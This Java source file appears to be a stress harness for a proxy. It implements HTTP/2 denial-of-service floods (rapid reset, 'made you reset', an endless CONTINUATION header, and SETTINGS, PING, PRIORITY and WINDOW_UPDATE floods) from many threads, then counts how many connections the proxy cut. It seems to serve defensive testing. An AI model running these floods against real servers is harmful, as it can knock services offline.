package io.fairlead.netty;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.ArrayList;
import java.util.List;
import java.util.concurrent.atomic.AtomicInteger;

/**
 * What HTTP/2 clients can do that costs them less than the proxy. As a program, it does so to a proxy that runs:
 * arguments are the kind, its port, how many connections at a time, and for how many seconds.
 */
public enum Http2Abuse {
    /** Requests that are reset at once. */
    RAPID_RESET {
        @Override
        byte[] at(int i) {
            return requestThen(RawHttp2.RST_STREAM, 2 * i + 1, RawHttp2.number(8));
        }
    },
    /** Requests that make the proxy reset them. */
    MADE_YOU_RESET {
        @Override
        byte[] at(int i) {
            return requestThen(RawHttp2.WINDOW_UPDATE, 2 * i + 1, RawHttp2.number(0));
        }
    },
    /** A head that goes on for ever without a byte. */
    CONTINUATION {
        @Override
        byte[] at(int i) {
            return (i == 0)
                    ? RawHttp2.frame(RawHttp2.HEADERS, 0, 1, RawHttp2.request("GET", "/"))
                    : RawHttp2.frame(RawHttp2.CONTINUATION, 0, 1);
        }
    },
    /** Settings that want to be acknowledged. */
    SETTINGS {
        @Override
        byte[] at(int i) {
            return RawHttp2.frame(RawHttp2.SETTINGS, 0, 0);
        }
    },
    /** Pings that want to be answered. */
    PING {
        @Override
        byte[] at(int i) {
            return RawHttp2.frame(RawHttp2.PING, 0, 0, new byte[8]);
        }
    },
    /** Priorities of a stream that is not there. */
    PRIORITY {
        @Override
        byte[] at(int i) {
            return RawHttp2.frame(RawHttp2.PRIORITY, 0, 1, new byte[5]);
        }
    },
    /** Credit, byte by byte. */
    WINDOW_UPDATE {
        @Override
        byte[] at(int i) {
            return RawHttp2.frame(RawHttp2.WINDOW_UPDATE, 0, 0, RawHttp2.number(1));
        }
    };

    private static final int FRAMES = 20_000;

    /** Returns what is sent after so much of it. */
    abstract byte[] at(int i);

    /** Sends until the connection ends, or for long enough. */
    void flood(RawHttp2 client) {
        try {
            for (int i = 0; i < FRAMES; i++) {
                client.write(at(i));
            }
        } catch (IOException e) {
            // closed, as it should be
        }
    }

    /** Returns a request on a stream, and a frame that follows it at once. */
    private static byte[] requestThen(int type, int stream, byte... payload) {
        ByteArrayOutputStream both = new ByteArrayOutputStream();
        byte[] request = RawHttp2.request("GET", "/");
        both.writeBytes(RawHttp2.frame(RawHttp2.HEADERS, RawHttp2.END_HEADERS | RawHttp2.END_STREAM, stream, request));
        both.writeBytes(RawHttp2.frame(type, 0, stream, payload));
        return both.toByteArray();
    }

    /** Abuses a proxy, and says how many connections that took and how many of them the proxy has ended. */
    public static void main(String[] arguments) throws InterruptedException {
        Http2Abuse abuse = valueOf(arguments[0]);
        int port = Integer.parseInt(arguments[1]);
        long end = System.nanoTime() + Long.parseLong(arguments[3]) * 1_000_000_000;
        AtomicInteger connections = new AtomicInteger();
        AtomicInteger ended = new AtomicInteger();
        List<Thread> clients = new ArrayList<>();
        for (int i = 0; i < Integer.parseInt(arguments[2]); i++) {
            Thread client = new Thread(() -> {
                while (System.nanoTime() < end) {
                    abuse.once(port, connections, ended);
                }
            });
            client.start();
            clients.add(client);
        }
        for (Thread client : clients) {
            client.join();
        }
        System.out.println("connections " + connections + ", ended " + ended);
    }

    private void once(int port, AtomicInteger connections, AtomicInteger ended) {
        try (RawHttp2 client = new RawHttp2(port)) {
            connections.incrementAndGet();
            flood(client);
            client.goAway(); // returns when the connection has ended, and throws when it does not
            ended.incrementAndGet();
        } catch (IOException e) {
            System.out.println(e);
        }
    }
}
